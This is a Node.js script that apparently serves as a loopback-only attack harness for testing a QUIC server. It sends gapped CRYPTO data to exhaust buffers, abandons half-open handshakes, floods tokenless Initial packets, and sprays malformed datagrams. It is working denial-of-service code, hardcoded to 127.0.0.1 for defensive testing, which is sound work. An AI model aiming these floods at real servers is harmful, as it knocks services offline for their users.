/*
 * A QUIC client with bad intentions and no certificate, for loopback only.
 *   quic-attacker.mjs crypto PORT COUNT      COUNT connections that send early CRYPTO data with a gap before it
 *   quic-attacker.mjs half-open PORT COUNT   COUNT handshakes that stop after the first packet
 *   quic-attacker.mjs initials PORT COUNT    COUNT first packets without a token, from a few sockets
 *   quic-attacker.mjs garbage PORT COUNT     COUNT datagrams of random bytes, some with a plausible head
 * Prints one JSON object with what it sent, and ends.
 */
import { createCipheriv, createHmac, randomBytes } from 'node:crypto';
import { createSocket } from 'node:dgram';
import { once } from 'node:events';
import { setImmediate as nextTurn, setTimeout as sleep } from 'node:timers/promises';

const HOST = '127.0.0.1';
const VERSION = Buffer.from([0, 0, 0, 1]);
const SALT = Buffer.from('38762cf7f55934b34d179ae6a4c80cadccbb7f0a', 'hex');
const FIRST_PACKET_BYTES = 1200;
const TAG_BYTES = 16;
const CRYPTO_BYTES = 8000;
/** What one connection of the kind `crypto` tries to make the server hold. */
const CRYPTO_PACKETS = 250;
const SOCKETS = 8;
const RETRY_WAIT_MS = 300;

const [kind, portText, countText] = process.argv.slice(2);
const port = Number(portText);
const count = Number(countText);
const kinds = { crypto: floodCrypto, 'half-open': openHalf, initials: floodInitials, garbage: sendGarbage };
const run = kinds[kind];
if (!run || !(port > 0) || !(count > 0)) {
	process.stderr.write('usage: quic-attacker.mjs crypto|half-open|initials|garbage PORT COUNT\n');
	process.exitCode = 64;
} else {
	process.stdout.write(`${JSON.stringify({ kind, ...(await run()) })}\n`);
}

async function floodCrypto() {
	let datagrams = 0;
	let bytes = 0;
	for (let index = 0; index < count; index++) {
		const connection = await openConnection();
		if (!connection) continue;
		const { socket, id, token } = connection;
		for (let number = 0; number < CRYPTO_PACKETS; number++) {
			// The first byte never comes, so nothing of it can be handed to TLS.
			const data = cryptoFrame(1_000_000 + number * CRYPTO_BYTES, randomBytes(CRYPTO_BYTES));
			const packet = initialPacket({ id, token, number, payload: data });
			await send(socket, packet);
			datagrams++;
			bytes += packet.length;
			if (number % 16 === 0) await nextTurn();
		}
		socket.close();
	}
	return { datagrams, bytes };
}

async function openHalf() {
	const sockets = [];
	for (let index = 0; index < count; index++) {
		const connection = await openConnection();
		if (!connection) continue;
		const { socket, id, token } = connection;
		const data = cryptoFrame(1_000_000, randomBytes(100));
		await send(socket, initialPacket({ id, token, number: 0, payload: data }));
		sockets.push(socket);
	}
	for (const socket of sockets) socket.close();
	return { opened: sockets.length };
}

async function floodInitials() {
	const sockets = Array.from({ length: SOCKETS }, () => createSocket('udp4'));
	for (let index = 0; index < count; index++) {
		const id = randomBytes(16);
		const packet = initialPacket({
			id,
			token: Buffer.alloc(0),
			number: 0,
			payload: cryptoFrame(0, randomBytes(200)),
		});
		await send(sockets[index % SOCKETS], packet);
	}
	for (const socket of sockets) socket.close();
	return { datagrams: count };
}

async function sendGarbage() {
	const socket = createSocket('udp4');
	for (let index = 0; index < count; index++) {
		const noise = randomBytes(1 + Math.floor(Math.random() * 1400));
		if (index % 3 === 0) noise[0] = 0xc3;
		if (index % 3 === 0) VERSION.copy(noise, 1);
		await send(socket, noise);
	}
	socket.close();
	return { datagrams: count };
}

/** Do as an honest client does until the server has sent its retry. Undefined when it sends none. */
async function openConnection() {
	const socket = createSocket('udp4');
	const first = randomBytes(16);
	const answer = once(socket, 'message');
	await send(
		socket,
		initialPacket({
			id: first,
			token: Buffer.alloc(0),
			number: 0,
			payload: cryptoFrame(0, randomBytes(200)),
		}),
	);
	const late = new AbortController();
	const [data] =
		(await Promise.race([answer, sleep(RETRY_WAIT_MS, [], { signal: late.signal }).catch(() => [])])) ?? [];
	late.abort();
	const retry = data && readRetry(data);
	if (!retry) {
		answer.catch(() => {});
		socket.close();
		return undefined;
	}
	return { socket, ...retry };
}

function readRetry(data) {
	if ((data[0] & 0xf0) !== 0xf0) return undefined;
	const ownIdBytes = data[5];
	const idBytes = data[6 + ownIdBytes];
	const idAt = 7 + ownIdBytes;
	return {
		id: data.subarray(idAt, idAt + idBytes),
		token: data.subarray(idAt + idBytes, data.length - TAG_BYTES),
	};
}

function cryptoFrame(offset, data) {
	return Buffer.concat([Buffer.from([6]), varint(offset), varint(data.length), data]);
}

/** RFC 9001, section 5: an Initial is protected with keys that anybody can derive. */
function initialPacket({ id, token, number, payload }) {
	const head = Buffer.concat([
		Buffer.from([0xc3]),
		VERSION,
		Buffer.from([id.length]),
		id,
		Buffer.from([0]),
		varint(token.length),
		token,
	]);
	const padding = Math.max(0, FIRST_PACKET_BYTES - head.length - 6 - payload.length - TAG_BYTES);
	const plain = Buffer.concat([payload, Buffer.alloc(padding)]);
	const numberBytes = Buffer.alloc(4);
	numberBytes.writeUInt32BE(number);
	const header = Buffer.concat([head, varint(plain.length + TAG_BYTES + 4), numberBytes]);
	const keys = keysFor(id);
	const nonce = Buffer.from(keys.iv);
	nonce.writeUInt32BE((nonce.readUInt32BE(8) ^ number) >>> 0, 8);
	const cipher = createCipheriv('aes-128-gcm', keys.key, nonce);
	cipher.setAAD(header);
	const sealed = Buffer.concat([cipher.update(plain), cipher.final(), cipher.getAuthTag()]);
	const mask = createCipheriv('aes-128-ecb', keys.headerKey, null).update(sealed.subarray(0, 16));
	header[0] ^= mask[0] & 0x0f;
	for (let at = 0; at < 4; at++) header[header.length - 4 + at] ^= mask[1 + at];
	return Buffer.concat([header, sealed]);
}

function keysFor(id) {
	const initial = createHmac('sha256', SALT).update(id).digest();
	const secret = expand(initial, 'client in', 32);
	return {
		key: expand(secret, 'quic key', 16),
		iv: expand(secret, 'quic iv', 12),
		headerKey: expand(secret, 'quic hp', 16),
	};
}

/** HKDF-Expand-Label of TLS 1.3; short enough for a single block. */
function expand(secret, label, length) {
	const name = Buffer.from(`tls13 ${label}`);
	const info = Buffer.concat([Buffer.from([0, length, name.length]), name, Buffer.from([0])]);
	return createHmac('sha256', secret)
		.update(info)
		.update(Buffer.from([1]))
		.digest()
		.subarray(0, length);
}

function varint(value) {
	if (value < 64) return Buffer.from([value]);
	if (value < 16_384) return Buffer.from([0x40 | (value >> 8), value & 0xff]);
	const bytes = Buffer.alloc(4);
	bytes.writeUInt32BE((0x80000000 | value) >>> 0);
	return bytes;
}

function send(socket, data) {
	return new Promise((resolve) => socket.send(data, port, HOST, () => resolve()));
}
